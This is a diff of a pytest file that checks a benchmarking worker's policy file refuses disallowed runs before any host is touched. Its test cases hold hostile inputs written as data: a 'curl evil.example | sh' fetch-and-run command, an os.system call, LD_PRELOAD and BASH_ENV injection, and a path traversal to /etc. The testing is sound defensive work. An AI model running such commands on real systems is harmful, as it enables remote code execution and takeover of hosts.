@@ -244,36 +244,64 @@ def test_command_line_refuses_bad_input(case: str, tmp_path: Path) -> None:
     assert "Traceback" not in proc.stderr
 
 
-@pytest.mark.parametrize("case", ["another program", "python -c", "LD_PRELOAD", "host_python"])
-async def test_a_host_that_restricts_commands_refuses_others_before_it_is_touched(case: str, tripwire: Tripwire,
-                                                                                  tmp_path: Path) -> None:
-    """Whoever can create flow runs can run commands on the hosts in the blocks; a block's allow-list
-    limits which. A flow parameter naming the block cannot lift it."""
-    from tasks.blocks import SSHHostBlock
+POLICY_CASES: dict[str, tuple[dict[str, Any], dict[str, Any], str]] = {
+    # case: (profile fields, host fields, what the refusal says)
+    "another program": ({"argv": ["/bin/sh", "-c", "curl evil.example | sh"]}, {},
+                        "profile.argv: /bin/sh -c 'curl evil.example | sh'... is not among the commands"),
+    "python -c": ({"argv": [sys.executable, "-c", "import os; os.system('id')"]}, {}, "is not among the commands"),
+    "LD_PRELOAD": ({"env": {"LD_PRELOAD": "/tmp/evil.so"}}, {}, "profile.env: LD_PRELOAD would make the server run"),
+    "BASH_ENV": ({"env": {"BASH_ENV": "/tmp/evil.sh"}}, {}, "profile.env: BASH_ENV would make the server run"),
+    "api key variable": ({"api_key_env": "PYTHONSTARTUP"}, {}, "profile.env: PYTHONSTARTUP would make the server"),
+    "working directory": ({"cwd": "/tmp/planted"}, {}, "profile.cwd: '/tmp/planted' is not a working directory"),
+    "remote code": ({"argv": [sys.executable, TOY, "--port", "{port}", "--trust-remote-code"]}, {},
+                    "--trust-remote-code is an argument this worker never passes"),
+    "another host": ({}, {"ssh": True}, "host: '127.0.0.1' is not a host this worker may reach"),
+    "host_python": ({}, {"load_generator": "host", "host_python": "/tmp/evil"},
+                    "host.host_python: /tmp/evil -I -m specsweep.bench.remote... is not among the commands"),
+}
 
-    key = tmp_path / "id_unused"
-    key.write_text("not a key\n")
-    allowed = f"{sys.executable} {TOY}"
-    await SSHHostBlock(hostname="127.0.0.1", port=tripwire.port, user="nobody", private_key="not a key",  # type: ignore[arg-type]
-                       allowed_commands=[allowed, "/usr/local/bin/llama-server"]).save("locked-gpu", overwrite=True)
-    host: dict[str, Any] = {"block": "locked-gpu", "allowed_commands": None}
-    prof = profile()
-    needle = "is not among the commands"
-    if case == "another program":
-        prof = profile(argv=["/bin/sh", "-c", "curl evil.example | sh"])
-    elif case == "python -c":
-        prof = profile(argv=[sys.executable, "-c", "import os; os.system('id')"])
-    elif case == "LD_PRELOAD":
-        prof = profile(env={"LD_PRELOAD": "/tmp/evil.so"})
-        needle = "profile.env: LD_PRELOAD would let the server run other code"
-    else:
-        host["load_generator"] = "host"
-        host["host_python"] = "/tmp/evil"
-        needle = "host.host_python: /tmp/evil -I -m specsweep.bench.remote... is not among the commands"
+
+@pytest.mark.parametrize("case", list(POLICY_CASES))
+async def test_the_workers_policy_refuses_what_it_does_not_allow_before_anything_runs(
+        case: str, tripwire: Tripwire, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """What a run may launch is decided by the worker's policy file, not by the run's parameters (anyone who
+    can reach a Prefect OSS server can start runs): a refused run fails before any host is touched, naming
+    the rule and the file."""
+    policy_file = tmp_path / "policy.toml"
+    policy_file.write_text(f'hosts = ["local"]\ncommands = ["{sys.executable} {TOY}"]\nresults = ["{tmp_path}"]\n'
+                           'env = ["HF_TOKEN"]\n')
+    monkeypatch.setenv("SPECSWEEP_POLICY", str(policy_file))
+    fields, host_fields, needle = POLICY_CASES[case]
+    host: dict[str, Any] = {}
+    if host_fields:  # an SSH host (the tripwire): reached only if the policy let the run through
+        host = {**tripwire_host(tripwire, tmp_path), **{k: v for k, v in host_fields.items() if k != "ssh"}}
+    if "host_python" in host_fields:  # the host itself is allowed: its interpreter is what is refused
+        policy_file.write_text(policy_file.read_text().replace('hosts = ["local"]', 'hosts = ["local", "127.0.0.1"]'))
     before = tripwire.connections
-    state = await benchmark_config(profile=prof, host=host, return_state=True,  # type: ignore[arg-type]
+    state = await benchmark_config(profile=profile(**fields), host=host, return_state=True,  # type: ignore[arg-type]
                                    benchmark={"results": str(tmp_path / "results")})  # type: ignore[arg-type]
     assert state.is_failed()
     assert needle in (state.message or ""), state.message
-    assert "allowed_commands" in (state.message or "")
+    assert f"policy ({policy_file})" in (state.message or "") and "SPECSWEEP_POLICY" in (state.message or "")
     assert tripwire.connections == before, "the host was touched"
+    assert not (tmp_path / "results").exists()
+
+
+async def test_no_parameter_lifts_the_policy_and_no_results_root_escapes_it(tmp_path: Path,
+                                                                            monkeypatch: pytest.MonkeyPatch) -> None:
+    policy_file = tmp_path / "policy.toml"
+    policy_file.write_text(f'commands = ["{sys.executable} {TOY}"]\nresults = ["{tmp_path}/results"]\n')
+    monkeypatch.setenv("SPECSWEEP_POLICY", str(policy_file))
+    lifted = await benchmark_config(profile=profile(), host={"allowed_commands": None}, return_state=True,  # type: ignore[arg-type]
+                                    benchmark={"results": str(tmp_path / "results")})  # type: ignore[arg-type]
+    assert lifted.is_failed() and "allowed_commands" in (lifted.message or "") and "xtra" in (lifted.message or "")
+    for root, needle in ((f"{tmp_path}/results/../../etc", "climbs out of its folder"),
+                         ("/etc", "'/etc' is not a results root this worker may write")):
+        state = await benchmark_config(profile=profile(), return_state=True,  # type: ignore[arg-type]
+                                       benchmark={"results": root})  # type: ignore[arg-type]
+        assert state.is_failed() and needle in (state.message or ""), state.message
+    # A policy file that is named but missing is an error, not the permissive default.
+    monkeypatch.setenv("SPECSWEEP_POLICY", str(tmp_path / "missing.toml"))
+    state = await benchmark_config(profile=profile(), return_state=True,  # type: ignore[arg-type]
+                                   benchmark={"results": str(tmp_path / "results")})  # type: ignore[arg-type]
+    assert state.is_failed() and "missing.toml (SPECSWEEP_POLICY) does not exist" in (state.message or "")
